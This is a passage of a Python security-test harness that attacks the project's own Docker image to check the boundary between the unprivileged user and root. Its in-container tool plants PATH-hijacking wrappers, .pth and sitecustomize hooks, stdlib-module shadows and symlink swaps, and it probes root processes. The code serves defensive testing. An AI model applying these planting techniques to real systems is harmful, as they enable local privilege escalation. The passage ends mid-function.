"""The root-boundary attack behind tests/docker/test_root_boundary.py (read that docstring first).

Everything here serves one question: can code running as the image's user `pt` make
root run something it planted, or make root write, chown or read through a link it
planted? The attack is generic: it discovers, in the running containers, what root
runs and touches, plants payloads there as pt, drives every path on which root acts,
and collects what the payloads recorded.

Three parts:
  * in-container code (strings): an audit hook for root Python processes, the payloads
    (a bash program payload, a Python hook for .pth/sitecustomize/stdlib shadows) and
    `TOOL`, one small python program with sub-commands that the harness runs in the
    container (as root for discovery and snapshots, as pt for planting);
  * `Box`: one container with safe root/pt command runners;
  * `Attack`: the scenario (recon, discovery, planting, driving, verdict data).
"""

from __future__ import annotations

import base64
import contextlib
import io
import json
import os
import shutil
import subprocess
import tarfile
import urllib.error
import urllib.request
import uuid
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import docker
import docker.errors

import ptmg_contract as contract
from tests.support import WaitTimeout, wait_until

# ----------------------------------------------------------------------- settings
NS = 1_000_000_000
START_TIMEOUT = float(os.environ.get("PTMG_ATTACK_START_TIMEOUT", "300"))  # busy 2-core hosts
HEALTH_RUNS = 3  # healthcheck runs to wait for after each step
HEALTH_INTERVAL_S = 2
REMAP_ID = "4242"
TOKEN = "ptmg-attack-token-" + uuid.uuid4().hex
FAKE_HASH = "sha1:0123abcd:" + "0" * 40  # well-formed (passes validation), matches nothing
#: How the documentation starts a container as root (for PT_UID/PT_GID): `--user 0`, a
#: working directory and a PATH of root-owned directories only (what `docker exec` inherits).
ROOT_MODE: dict[str, Any] = {"user": "0", "working_dir": contract.ROOT_WORKDIR}
ROOT_MODE_ENV = {"PATH": contract.ROOT_PATH}

SYSTEM_BIN_DIRS = ("/usr/local/sbin", "/usr/local/bin", "/usr/sbin", "/usr/bin", "/sbin", "/bin")
# Programs that are not in the image but that a GPU host (NVIDIA Container Toolkit)
# mounts in, or that tools look up by name anyway.
EXTRA_NAMES = ("nvidia-smi", "nvidia-debugdump", "nvidia-persistenced", "nvidia-cuda-mps-control",
               "nvidia-cuda-mps-server", "nvidia-ctk", "nvcc", "python", "pip", "sudo", "doas")
SNAPSHOT_ROOTS = ("/opt", "/etc", "/usr", "/root", "/var/lib", "/bin", "/sbin", "/lib", "/lib64")
# Root-owned files whose *content* may change legitimately (uid remap, Docker's own
# bind mounts); their owner and mode must still not change.
CONTENT_MAY_CHANGE = frozenset({
    "/etc/passwd", "/etc/group", "/etc/shadow", "/etc/gshadow", "/etc/passwd-", "/etc/group-",
    "/etc/shadow-", "/etc/gshadow-", "/etc/subuid", "/etc/subgid", "/etc/subuid-", "/etc/subgid-",
    "/etc/.pwd.lock", "/etc/hosts", "/etc/hostname", "/etc/resolv.conf",
})

ATTACK_DIR = "/tmp/ptmg-attack"
LOG_DIR = f"{ATTACK_DIR}/log"
RECORDS = f"{LOG_DIR}/records.tsv"
PAYLOAD = f"{ATTACK_DIR}/payload.sh"
PYHOOK = f"{ATTACK_DIR}/pyhook.py"
ORIG_PREFIX = ".ptmg-orig."
CANARY_DIR = "/etc/ptmg-canary"
AUDIT_LOG = "/var/log/ptmg-audit.jsonl"
AUDIT_MODULE = "ptmg_audit"
# The harness's own root commands: absolute paths, a PATH of root-owned dirs, python
# without site (-I -S), and a marker the payload records (so they are never counted).
SAFE_ENV = {"PATH": "/usr/sbin:/usr/bin:/sbin:/bin", "PTMG_ATTACK_HARNESS": "1",
            "PYTHONDONTWRITEBYTECODE": "1"}
TOOL_PYTHONS = ("/usr/bin/python3", "/usr/local/bin/python3", "/opt/venv/bin/python3")
STATE_FILES = [f"{contract.STATE_DIR}/state.json"]

# --------------------------------------------------------------- in-container code
AUDIT_HOOK = r'''
"""pt-multi-gpu attack test instrumentation: log what root Python processes touch."""
import json, os, shutil, sys, threading, time
_LOG = "/var/log/ptmg-audit.jsonl"
_W = os.O_WRONLY | os.O_RDWR | os.O_CREAT | os.O_TRUNC | os.O_APPEND
_EVENTS = {"open", "os.chown", "os.chmod", "os.rename", "os.mkdir", "os.symlink", "os.link",
           "os.truncate", "os.utime", "os.remove", "os.rmdir", "subprocess.Popen", "os.exec",
           "os.posix_spawn", "os.system", "os.chdir"}
_QUIET_READS = ("/usr/", "/proc/", "/sys/", "/dev/", "/opt/pt-multi-gpu/", "/etc/",
                "/opt/venv/lib/", "/lib/")
_tls = threading.local()
_fd = None

def _p(x):
    try:
        return os.fsdecode(x) if isinstance(x, (str, bytes, os.PathLike)) else x
    except Exception:
        return repr(x)

def _emit(rec):
    global _fd
    if _fd is None:
        _fd = os.open(_LOG, os.O_WRONLY | os.O_APPEND | os.O_CREAT | os.O_NOFOLLOW | os.O_CLOEXEC, 0o600)
    os.write(_fd, (json.dumps(rec, default=repr) + "\n").encode())

def _hook(event, args):
    if event not in _EVENTS or getattr(_tls, "busy", False):
        return
    if os.geteuid() != 0 and os.getuid() != 0:
        return
    _tls.busy = True
    try:
        rec = {"event": event, "pid": os.getpid(), "t": time.time(),
               "argv": list(getattr(sys, "argv", []) or [])[:4], "cwd": None}
        try:
            rec["cwd"] = os.getcwd()
        except OSError:
            pass
        if event == "open":
            path, mode, flags = (list(args) + [None, None, None])[:3]
            path = _p(path)
            if not isinstance(path, str):
                return
            if isinstance(flags, int):
                write = bool(flags & _W)
                rec["nofollow"] = bool(flags & os.O_NOFOLLOW)
            else:
                write = any(ch in str(mode or "r") for ch in "wax+")
            if not write and path.startswith(_QUIET_READS):
                return
            if not path.startswith("/") and rec["cwd"]:
                path = os.path.join(rec["cwd"], path)
            rec.update(path=path, write=write, flags=flags, mode=_p(mode))
        elif event in ("subprocess.Popen", "os.exec", "os.posix_spawn"):
            exe, argv, *rest = list(args) + [None, None, None]
            env = rest[1] if event == "subprocess.Popen" else rest[0]
            argv = [_p(a) for a in (argv or [])]
            env = {(_p(k)): _p(v) for k, v in dict(env or os.environ).items()}
            prog = _p(exe) or (argv[0] if argv else None)
            resolved = prog
            if isinstance(prog, str) and "/" not in prog:
                resolved = shutil.which(prog, path=env.get("PATH"))
            rec.update(prog=prog, resolved=resolved, args=argv[:12], PATH=env.get("PATH"),
                       PYTHONPATH=env.get("PYTHONPATH"), LD_PRELOAD=env.get("LD_PRELOAD"),
                       spawn_cwd=_p(rest[0]) if event == "subprocess.Popen" else None)
        elif event == "os.system":
            rec.update(command=_p(args[0]), PATH=os.environ.get("PATH"))
        else:
            rec.update(path=_p(args[0]) if args else None,
                       path2=_p(args[1]) if event in ("os.rename", "os.symlink", "os.link") else None,
                       extra=[_p(a) for a in args[1:4]])
            for key in ("path", "path2"):
                v = rec.get(key)
                if isinstance(v, str) and not v.startswith("/") and rec["cwd"]:
                    rec[key] = os.path.join(rec["cwd"], v)
        _emit(rec)
    except Exception:
        pass
    finally:
        _tls.busy = False

sys.addaudithook(_hook)
'''

PAYLOAD_SH = r'''#!/bin/bash
# ptmg-attack payload: record who ran me, then become the real program. Builtins only.
name=${0##*/}
name=${name#.ptmg-orig.}
case $0 in */*) dir=${0%/*} ;; *) dir=. ;; esac
args="$*"
args=${args//[$'\t\n\r']/ }
{ printf '%s\t%s\t%s\t%s\t%s\t%s\t%s\t%(%s)T\t%s\t%s\t%s\n' exec "$UID" "$EUID" "$name" "$0" \
    "$$" "$PPID" -1 "${PTMG_ATTACK_HARNESS:-0}" "$HOSTNAME" "${args:0:300}" >> __RECORDS__; } 2>/dev/null
if [ -e "$dir/.ptmg-orig.$name" ]; then
    exec -a "$0" "$dir/.ptmg-orig.$name" "$@"
fi
for d in __REAL_DIRS__; do
    if [ -x "$d/$name" ] && [ ! -d "$d/$name" ]; then
        exec -a "$0" "$d/$name" "$@"
    fi
done
printf 'ptmg-attack payload: %s: command not found\n' "$name" >&2
exit 127
'''

PYHOOK_PY = r'''
import os, sys, time
try:
    _argv = " ".join(getattr(sys, "argv", None) or [])[:300]
    _line = "\t".join(str(x).replace("\t", " ").replace("\n", " ") for x in (
        "py", os.getuid(), os.geteuid(), NAME, WHERE, os.getpid(), os.getppid(), int(time.time()),
        os.environ.get("PTMG_ATTACK_HARNESS", "0"), os.uname().nodename,
        (sys.executable or "?") + " " + _argv))
    with open("__RECORDS__", "a") as _f:
        _f.write(_line + "\n")
except Exception:
    pass
'''

SHADOW_PY = r'''# ptmg-attack shadow of the stdlib module __NAME__: record, then load the real one.
import sys as _s, os as _o
try:
    exec(open("__PYHOOK__").read(), {"NAME": "shadow:" + __name__, "WHERE": __WHERE__})
except Exception:
    pass
_d = _o.path.realpath(__WHERE__)
del _s.modules[__name__]
_saved = list(_s.path)
_s.path[:] = [p for p in _s.path if _o.path.realpath(p or ".") != _d]
try:
    _m = __import__(__name__)
finally:
    _s.path[:] = _saved
_s.modules[__name__] = _m
'''

TOOL = r'''
import hashlib, json, os, signal, stat, subprocess, sys, time

def walk_points(path):
    """Where pt can plant for `path`: the deepest entry on its way (the path itself, else
    an ancestor) whose directory pt can write (sticky dirs: only entries pt owns or that
    do not exist yet). None when pt controls nothing on the way."""
    c = os.path.normpath(path)
    while c != "/":
        if dir_writable(os.path.dirname(c), c):
            return c
        c = os.path.dirname(c)
    return None

def dir_writable(d, child=None):
    try:
        st = os.stat(d)
    except OSError:
        return False
    if not stat.S_ISDIR(st.st_mode) or not os.access(d, os.W_OK | os.X_OK):
        return False
    if st.st_mode & stat.S_ISVTX and child is not None:
        try:
            return os.lstat(child).st_uid == os.geteuid()
        except FileNotFoundError:
            return True
        except OSError:
            return False
    return True

def kind(p):
    try:
        st = os.lstat(p)
    except OSError:
        return "missing"
    if stat.S_ISLNK(st.st_mode):
        return "link"
    return "dir" if stat.S_ISDIR(st.st_mode) else "file"

def cmd_root_procs(arg):
    out = {}
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            with open(f"/proc/{pid}/status") as f:
                st = dict(l.split(":", 1) for l in f.read().splitlines() if ":" in l)
            with open(f"/proc/{pid}/environ", "rb") as f:
                raw = f.read()
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                cmd = f.read()
            cwd = os.readlink(f"/proc/{pid}/cwd")
        except OSError:
            continue
        env = {}
        for item in raw.split(b"\0"):
            k, sep, v = item.partition(b"=")
            if sep and k and k.replace(b"_", b"").isalnum():
                env.setdefault(k.decode(errors="replace"), v.decode(errors="replace"))
        out[pid] = {"uids": st.get("Uid", "").split(), "name": st.get("Name", "").strip(),
                    "cmdline": cmd.replace(b"\0", b" ").decode(errors="replace").strip(),
                    "cwd": cwd, "PATH": env.get("PATH"), "PYTHONPATH": env.get("PYTHONPATH"),
                    "LD_PRELOAD": env.get("LD_PRELOAD"), "env_keys": sorted(env)}
    return out

def cmd_bins(arg):
    names = set()
    for d in arg["dirs"]:
        try:
            entries = os.listdir(d)
        except OSError:
            continue
        for n in entries:
            p = os.path.join(d, n)
            if not n.startswith(".") and os.access(p, os.X_OK) and not os.path.isdir(p):
                names.add(n)
    return sorted(names)

def cmd_pythons(arg):
    code = ("import json, site, sys; print(json.dumps({'path': sys.path, 'user': site.ENABLE_USER_SITE,"
            " 'usersite': site.getusersitepackages(), 'site': site.getsitepackages(),"
            " 'prefix': sys.prefix, 'exe': sys.executable}))")
    out = {}
    seen = set()
    for py in arg["pythons"]:
        if not (os.path.isfile(py) and os.access(py, os.X_OK)):
            continue
        if os.path.realpath(py).startswith(arg["ours"]):  # a payload planted earlier, not a python
            continue
        key = (os.path.realpath(os.path.dirname(py)), os.path.basename(py))
        if key in seen:
            continue
        seen.add(key)
        for flags in ([], ["-E", "-s"], ["-I"]):
            for cwd in arg["cwds"]:
                if not os.access(cwd, os.X_OK):
                    continue
                try:
                    r = subprocess.run([py, *flags, "-c", code], cwd=cwd, capture_output=True,
                                       text=True, timeout=60)
                    data = json.loads(r.stdout)
                except Exception as exc:
                    out[f"{py} {' '.join(flags)} @{cwd}"] = {"error": str(exc)}
                    continue
                data["path"] = [os.path.join(cwd, p) if not p.startswith("/") else p
                                for p in data["path"]]
                out[f"{py} {' '.join(flags)} @{cwd}"] = data
    return out

def cmd_stdlib_names(arg):
    names = set()
    code = "import json, sys; print(json.dumps(sorted(set(sys.stdlib_module_names) - set(sys.modules))))"
    for py in arg["pythons"]:
        if not (os.path.isfile(py) and os.access(py, os.X_OK)):
            continue
        try:
            r = subprocess.run([py, "-I", "-c", code], capture_output=True, text=True, timeout=60, cwd="/")
            names |= set(json.loads(r.stdout))
        except Exception:
            continue
    return sorted(n for n in names if not n.startswith("_") and n not in ("sitecustomize", "usercustomize"))

def cmd_plant_shadows(arg):
    done = {}
    for d in arg["dirs"]:
        made = 0
        for n in arg["names"]:
            p = os.path.join(d, n + ".py")
            if os.path.lexists(p) or os.path.lexists(os.path.join(d, n)):
                continue
            try:
                with open(p, "w") as f:
                    f.write(arg["code"].replace("__NAME__", n).replace("__WHERE__", repr(d)))
                made += 1
            except OSError:
                pass
        done[d] = made
    return done

def cmd_points(arg):
    out = {}
    for p in arg["paths"]:
        pt = walk_points(p)
        out[p] = {"point": pt, "point_kind": kind(pt) if pt else None, "kind": kind(p)}
    return out

def cmd_dirs_writable(arg):
    out = {}
    for d in arg["dirs"]:
        if os.path.isdir(d):
            out[d] = "writable" if dir_writable(d) else None
        else:
            out[d] = "creatable" if walk_points(d) else None
    return out

def cmd_scan_root_owned(arg):
    """Root-owned entries in directories pt can write: pt can replace them."""
    found = []
    skip = tuple(arg["skip"])
    root_dev = os.lstat("/").st_dev
    for top, dirs, files in os.walk("/"):
        dirs[:] = [d for d in dirs if not os.path.join(top, d).startswith(skip)
                   and os.lstat(os.path.join(top, d)).st_dev == root_dev]
        if not dir_writable(top):
            continue
        for n in dirs + files:
            p = os.path.join(top, n)
            try:
                st = os.lstat(p)
            except OSError:
                continue
            if st.st_uid == 0 and dir_writable(top, p):
                found.append(p)
    return found

def _replace_with_link(link_path, target):
    tmp = os.path.join(os.path.dirname(link_path), f".ptmg-tmp-{os.getpid()}-{time.time_ns()}")
    os.symlink(target, tmp)
    os.replace(tmp, link_path)

def cmd_setup_payload(arg):
    # Idempotent, also for another uid (after a remap): what is there and right stays.
    os.makedirs(arg["log_dir"], exist_ok=True)
    for path, mode in ((os.path.dirname(arg["log_dir"]), 0o755), (arg["log_dir"], 0o777)):
        if os.stat(path).st_uid == os.geteuid():
            os.chmod(path, mode)
    if not os.path.exists(arg["records"]):
        open(arg["records"], "a").close()
    if os.stat(arg["records"]).st_uid == os.geteuid():
        os.chmod(arg["records"], 0o666)
    for path, text in arg["files"].items():
        try:
            with open(path) as f:
                if f.read() == text:
                    continue
        except OSError:
            pass
        with open(path, "w") as f:
            f.write(text)
        os.chmod(path, 0o755)
    return {"time": time.time()}

def cmd_plant_path(arg):
    payload, prefix = arg["payload"], arg["prefix"]
    done = {}
    for d in arg["dirs"]:
        os.makedirs(d, exist_ok=True)
        moved, made, errors = [], [], []
        existing = {}
        for n in os.listdir(d):
            p = os.path.join(d, n)
            if n.startswith((prefix, ".ptmg-tmp-")) or os.path.isdir(p):
                continue
            if os.path.islink(p) and os.readlink(p) == payload:
                continue
            if os.path.islink(p):
                existing[n] = os.path.realpath(p)
            elif os.access(p, os.X_OK):
                existing[n] = None
        for n, real in existing.items():
            p, orig = os.path.join(d, n), os.path.join(d, prefix + n)
            try:
                if not os.path.lexists(orig):
                    if real is not None:
                        os.symlink(real, orig)
                    else:
                        os.link(p, orig)
                _replace_with_link(p, payload)
                moved.append(n)
            except OSError as exc:
                errors.append(f"{n}: {exc}")
        for n in arg["names"]:
            p = os.path.join(d, n)
            if os.path.lexists(p):
                continue
            try:
                os.symlink(payload, p)
                made.append(n)
            except OSError as exc:
                errors.append(f"{n}: {exc}")
        done[d] = {"wrapped": sorted(moved), "planted": len(made), "errors": errors}
    return done

def cmd_plant_python(arg):
    done = {}
    for d in arg["dirs"]:
        try:
            os.makedirs(d, exist_ok=True)
        except OSError as exc:
            done[d] = str(exc)
            continue
        wrote = []
        for name, text in arg["files"].items():
            p = os.path.join(d, name)
            body = text.replace("__WHERE__", repr(d))
            try:
                old = ""
                if os.path.isfile(p):
                    with open(p) as f:
                        old = f.read()
                if "ptmg-attack" in old:
                    continue
                with open(p, "w") as f:
                    f.write(body + ("\n" + old if old else ""))
                wrote.append(name)
            except OSError as exc:
                wrote.append(f"{name}: {exc}")
        done[d] = wrote
    return done

def cmd_plant_links(arg):
    done = []
    for item in arg["links"]:
        path, point, target = item["path"], item["point"], item["canary"]
        try:
            if point != path and not os.path.lexists(point):
                os.makedirs(os.path.dirname(path), exist_ok=True)
                point = path
            if os.path.islink(point) and os.readlink(point) == target:
                continue
            if os.path.isdir(point) and not os.path.islink(point):
                try:
                    os.rename(point, f"{point}.ptmg-aside-{time.time_ns()}")
                except OSError as exc:  # overlayfs: a directory of a lower layer cannot move (EXDEV)
                    if exc.errno != 18:
                        raise
                    import shutil
                    shutil.rmtree(point)
            _replace_with_link(point, target)
            done.append({"point": point, "canary": target, "path": path})
        except OSError as exc:
            # pt may not write there (then pt cannot attack there either), or an earlier link of
            # this batch replaced a parent: skipped. Anything else is the harness failing.
            key = "skipped" if exc.errno in (1, 2, 13, 20) else "error"
            done.append({"point": point, "canary": target, "path": path, key: str(exc)})
    return done

def cmd_hardlink(arg):
    out = {}
    for src, dst in arg["pairs"]:
        try:
            os.link(src, dst)
            out[dst] = "linked"
        except OSError as exc:
            out[dst] = str(exc)
    return out

def cmd_make_canaries(arg):
    os.makedirs(arg["dir"], mode=0o755, exist_ok=True)
    os.chmod(arg["dir"], 0o755)
    for c in arg["canaries"]:
        if c["type"] == "dir":
            os.makedirs(c["path"], mode=0o755, exist_ok=True)
            os.chmod(c["path"], 0o755)
            inner = os.path.join(c["path"], "canary")
            with open(inner, "w") as f:
                f.write(c["content"])
            os.chmod(inner, 0o644)
        else:
            with open(c["path"], "w") as f:
                f.write(c["content"])
            os.chmod(c["path"], c["mode"])
    return True

def _entry(p):
    try:
        st = os.lstat(p)
    except OSError:
        return None
    mode = stat.S_IMODE(st.st_mode)
    if stat.S_ISLNK(st.st_mode):
        return ["link", st.st_uid, st.st_gid, mode, os.readlink(p)]
    if stat.S_ISDIR(st.st_mode):
        return ["dir", st.st_uid, st.st_gid, mode, None]
    if not stat.S_ISREG(st.st_mode):
        return ["other", st.st_uid, st.st_gid, mode, None]
    digest = None
    if st.st_uid == 0:
        h = hashlib.sha256()
        try:
            with open(p, "rb") as f:
                for block in iter(lambda: f.read(1 << 20), b""):
                    h.update(block)
            digest = h.hexdigest()
        except OSError as exc:
            digest = f"unreadable: {exc}"
    return ["file", st.st_uid, st.st_gid, mode, digest]

def cmd_snapshot(arg):
    out = {}
    for top in arg["roots"]:
        if os.path.islink(top) or not os.path.isdir(top):
            e = _entry(top)
            if e:
                out[top] = e
            continue
        for d, dirs, files in os.walk(top):
            for n in [".", *dirs, *files]:
                p = d if n == "." else os.path.join(d, n)
                e = _entry(p)
                if e and (e[1] == 0 or e[2] == 0 and e[0] != "file"):
                    out[p] = e
    for p in arg.get("paths", []):
        e = _entry(p)
        out[p] = e
    return out

def cmd_state(arg):
    import glob
    for p in arg["files"] + sorted(glob.glob("/tmp/pt-multi-gpu-*/state.json")):
        try:
            with open(p) as f:
                return json.load(f)
        except (OSError, ValueError):
            continue
    return None

def cmd_read(arg):
    try:
        with open(arg["path"], "rb") as f:
            return f.read().decode(errors="replace")
    except OSError as exc:
        return None

def cmd_kill(arg):
    out = {}
    for pid in arg["pids"]:
        try:
            os.kill(int(pid), arg["sig"])
        except OSError as exc:
            out[str(pid)] = exc.strerror
            continue
        out[str(pid)] = "signalled"
        if arg["sig"] == 0:
            # Listed as root a moment ago; the kernel let pt signal it, so its real or saved uid was pt's
            # then. Still root (any uid 0: a setuid-root program) is a finding; a process that has since
            # dropped to pt for good (a root-mode healthcheck does, every 2 s), or a pid reused by one
            # of pt's, is not.
            try:
                with open(f"/proc/{pid}/status") as f:
                    uids = next((l.split()[1:] for l in f if l.startswith("Uid:")), [])
            except OSError:
                uids = []
            if "0" not in uids:
                out[str(pid)] = f"signalled, no longer root (uids {' '.join(uids) or 'gone'})"
    return out

def cmd_find_markers(arg):
    hits = []
    markers = [m.encode() for m in arg["markers"]]
    skip = tuple(arg["skip"])
    root_dev = os.lstat("/").st_dev
    for top, dirs, files in os.walk("/"):
        dirs[:] = [d for d in dirs if not os.path.join(top, d).startswith(skip)
                   and os.lstat(os.path.join(top, d)).st_dev == root_dev]
        for n in files:
            p = os.path.join(top, n)
            try:
                st = os.lstat(p)
                if not stat.S_ISREG(st.st_mode) or max(st.st_mtime, st.st_ctime) < arg["since"] \
                        or st.st_size > (8 << 20):
                    continue
                with open(p, "rb") as f:
                    data = f.read()
            except OSError:
                continue
            for m in markers:
                if m in data:
                    hits.append([p, m.decode()])
    return hits

def cmd_now(arg):
    return time.time()

cmd = globals()["cmd_" + sys.argv[1].replace("-", "_")]
print(json.dumps(cmd(json.loads(sys.argv[2]) if len(sys.argv) > 2 else {})))
'''




# ------------------------------------------------------------------------ helpers
class HarnessError(AssertionError):
    """The harness could not do its job (not a security finding)."""


@dataclass
class Record:
    kind: str  # exec | py
    uid: int
    euid: int
    name: str
    where: str
    pid: str
    ppid: str
    time: int
    harness: bool
    host: str
    detail: str

    @property
    def root(self) -> bool:
        return self.uid == 0 or self.euid == 0

    def label(self) -> str:
        return f"{self.name} ({self.where})" if self.kind == "exec" else f"{self.name} in {self.where}"


def parse_records(text: str) -> list[Record]:
    out = []
    for line in text.splitlines():
        f = line.split("\t")
        if len(f) < 11:
            continue
        try:
            out.append(Record(f[0], int(f[1]), int(f[2]), f[3], f[4], f[5], f[6], int(f[7]),
                              f[8] == "1", f[9], "\t".join(f[10:])))
        except ValueError:
            continue
    return out


@dataclass
class Box:
    """One container under attack, with safe root and pt command runners."""

    c: Any
    name: str
    root_mode: bool
    tool_python: str = "/usr/bin/python3"

    def exec(self, cmd: list[str], user: str | None = None, env: dict[str, str] | None = None,
             workdir: str | None = None) -> tuple[int, str, str]:
        kwargs: dict[str, Any] = {"demux": True}
        if user is not None:
            kwargs["user"] = user
        if env is not None:
            kwargs["environment"] = env
        if workdir is not None:
            kwargs["workdir"] = workdir
        res = self.c.exec_run(cmd, **kwargs)
        out, err = res.output if isinstance(res.output, tuple) else (res.output, b"")
        return int(res.exit_code), (out or b"").decode(errors="replace"), (err or b"").decode(errors="replace")

    def tool(self, sub: str, arg: Any = None, user: str = "0") -> Any:
        cmd = [self.tool_python, "-I", "-S", "-c", TOOL, sub, json.dumps(arg or {})]
        code, out, err = self.exec(cmd, user=user, env=dict(SAFE_ENV), workdir="/")
        if code != 0:
            raise HarnessError(f"[{self.name}] tool {sub} as {user} exited {code}: {err[-2000:]}")
        return json.loads(out.strip().splitlines()[-1])

    def as_pt(self, sub: str, arg: Any = None) -> Any:
        return self.tool(sub, arg, user=contract.USER)

    def logs(self) -> str:
        return str(self.c.logs().decode(errors="replace"))

    def status(self) -> str:
        self.c.reload()
        return str(self.c.status)

    def host_port(self, port: str) -> int:
        self.c.reload()
        return int(self.c.attrs["NetworkSettings"]["Ports"][port][0]["HostPort"])

    def health_log(self) -> list[dict[str, Any]]:
        self.c.reload()
        return list((self.c.attrs["State"].get("Health") or {}).get("Log") or [])

    def health(self) -> str:
        self.c.reload()
        return str((self.c.attrs["State"].get("Health") or {}).get("Status"))


# --------------------------------------------------------------------- the attack
@dataclass
class Result:
    image: str
    records: list[Record] = field(default_factory=list)
    file_changes: list[dict[str, Any]] = field(default_factory=list)
    new_in_canary_dirs: list[str] = field(default_factory=list)
    leaks: list[list[str]] = field(default_factory=list)
    log_leaks: list[str] = field(default_factory=list)
    signalled_root: dict[str, str] = field(default_factory=dict)
    hardlinks: dict[str, str] = field(default_factory=dict)
    discovery: dict[str, Any] = field(default_factory=dict)
    planted: dict[str, Any] = field(default_factory=dict)
    audit: list[dict[str, Any]] = field(default_factory=list)
    steps: list[str] = field(default_factory=list)
    notes: list[str] = field(default_factory=list)
    selftest: dict[str, int] = field(default_factory=dict)
    root_reads: list[str] = field(default_factory=list)  # pt-controlled paths root opened to read
    exec_users: dict[str, str] = field(default_factory=dict)  # container -> `docker exec` (no -u) identity
    refused: dict[str, str] = field(default_factory=dict)  # container -> why it would not start

    def root_records(self) -> list[Record]:
        return [r for r in self.records if r.root and not r.harness]

    def root_payloads(self) -> dict[str, list[str]]:
        """payload label -> the distinct detail lines (argv) it ran with as root."""
        out: dict[str, list[str]] = {}
        for r in self.root_records():
            if r.name.startswith("shadow:"):  # one entry per dir, listing the modules
                details = out.setdefault(f"py:stdlib module shadowed in {r.where}", [])
                if r.name[7:] not in details:
                    details.append(r.name[7:])
                continue
            details = out.setdefault(f"{r.kind}:{r.label()}", [])
            if r.detail not in details and len(details) < 5:
                details.append(r.detail)
        return out

    def summary(self) -> str:
        lines = [f"== root boundary attack on {self.image}", "steps: " + "; ".join(self.steps)]
        lines.append(f"-- docker exec without -u runs as: {self.exec_users}")
        if self.refused:
            lines.append(f"-- refused to start: {self.refused}")
        rp = self.root_payloads()
        lines.append(f"-- payloads that ran as uid 0: {len(rp)} distinct, {len(self.root_records())} runs")
        for key, details in sorted(rp.items()):
            lines.append(f"   ROOT {key}")
            if key.startswith("py:stdlib module shadowed"):
                lines.append(f"        modules ({len(details)}): {', '.join(sorted(details))}")
                continue
            lines += [f"        argv: {d[:160]}" for d in details]
        nonroot = sorted({f"{r.kind}:{'shadow:*' if r.name.startswith('shadow:') else r.name}"
                          for r in self.records if not r.root})
        lines.append(f"-- payloads that ran only as non-root ({len(nonroot)}): {', '.join(nonroot)[:1500]}")
        lines.append(f"-- root-owned files changed: {len(self.file_changes)}")
        lines += [f"   CHANGED [{ch['container']}] {ch['path']}: {ch['what']} {ch['before']} -> {ch['after']}"
                  for ch in self.file_changes]
        lines += [f"   NEW FILE in a root-owned canary dir: {p}" for p in self.new_in_canary_dirs]
        lines.append(f"-- root-only canary content readable by pt: {len(self.leaks)}")
        lines += [f"   LEAK {marker} readable by pt in {path}" for path, marker in self.leaks]
        lines.append(f"-- pt-controlled paths root opened for reading (confused deputy; info): {self.root_reads}")
        lines += [f"   (container log shows root-only canary content: {line[:160]})" for line in self.log_leaks]
        lines.append(f"-- root processes pt could signal: {self.signalled_root or 'none'}")
        lines.append(f"-- hardlinks of root files by pt: {self.hardlinks}")
        lines += [f"-- note: {n}" for n in self.notes]
        return "\n".join(lines)

    def to_json(self) -> dict[str, Any]:
        return {"image": self.image, "summary": self.summary(), "root_payloads": self.root_payloads(),
                "records": [r.__dict__ for r in self.records], "file_changes": self.file_changes,
                "new_in_canary_dirs": self.new_in_canary_dirs, "leaks": self.leaks, "log_leaks": self.log_leaks,
                "signalled_root": self.signalled_root, "hardlinks": self.hardlinks, "steps": self.steps,
                "selftest": self.selftest, "root_reads": self.root_reads, "exec_users": self.exec_users,
                "refused": self.refused, "discovery": self.discovery, "planted": self.planted,
                "audit": self.audit}


class Attack:
    """The scenario. Containers (all labelled with `labels`, removed by cleanup()):

    A   the image as `docker run IMAGE` starts it (its default user), services on;
    R   recon only: a root-mode start (`--user 0`, the documented PATH and working
        directory) with PT_UID/PT_GID=4242, audited, then removed;
    B   A as pt left it (committed: what a derived image or a kept container looks like),
        started in root mode with the remap; planted again, restarted;
    U   A's commit started with `--user 0` and the image's own PATH and WORKDIR (an
        operator who forgot the documented flags): the image must refuse to start, or
        hold like the others.
    """

    def __init__(self, client: Any, image: str, workdir: Path, labels: dict[str, str]):
        self.client = client
        self.image = image
        self.work = workdir
        self.session = uuid.uuid4().hex[:12]
        self.labels = {**labels, "ptmg-test": "root-boundary", "ptmg-attack-session": self.session}
        self.config = client.images.get(image).attrs["Config"]
        self.result = Result(image)
        self.boxes: list[Box] = []
        self.images: list[str] = []
        self.canary_seq = 0
        self.baseline: dict[str, Any] = {}
        self.markers: list[str] = []
        self.canaries: dict[str, str] = {}  # point -> canary path
        self.key_path, self.pubkey = self._ssh_key()
        self.mounts: list[str] = []

    # --------------------------------------------------------------- containers
    def _ssh_key(self) -> tuple[Path, str]:
        key = self.work / "id_ed25519"
        if not shutil.which("ssh-keygen") or not shutil.which("ssh"):
            raise HarnessError("the OpenSSH client is missing. Fix: scripts/ensure-tools.sh test "
                               "(Debian: apt-get install openssh-client)")
        subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "ptmg-attack", "-f", str(key)],
                       check=True, timeout=30)
        return key, key.with_suffix(".pub").read_text().strip()

    def _run_once(self, argv: list[str], entrypoint: str) -> str:
        out = self.client.containers.run(self.image, argv, entrypoint=[entrypoint], remove=True, labels=self.labels,
                                         user="0", environment=SAFE_ENV, working_dir="/", stderr=False)
        return str(out.decode())

    def _audit_mounts(self) -> list[str]:
        """Bind-mount the audit hook (read-only, root-owned) into the system python's site dirs."""
        hook_dir = self.work / "audit"
        hook_dir.mkdir(exist_ok=True)
        (hook_dir / f"{AUDIT_MODULE}.py").write_text(AUDIT_HOOK)
        (hook_dir / "zz_ptmg_audit.pth").write_text(f"import {AUDIT_MODULE}\n")
        for p in hook_dir.iterdir():
            p.chmod(0o644)
        hook_dir.chmod(0o755)
        probe = ("import json, site, sys; print(json.dumps([p for p in site.getsitepackages() "
                 "if p.startswith('/usr')]))")
        site_dirs: list[str] = []
        for py in ("/usr/bin/python3", "/usr/local/bin/python3"):
            try:
                out = self._run_once(["-I", "-c", probe], py)
            except docker.errors.APIError:  # ContainerError included: no such python
                continue
            site_dirs += [d for d in json.loads(out.strip().splitlines()[-1]) if d not in site_dirs]
        mounts: list[str] = []
        if site_dirs:
            check = self._run_once(["-c", " ".join(f"[ -d {d} ] && echo {d};" for d in site_dirs) + " true"],
                                   "/bin/sh")
            for d in check.split():
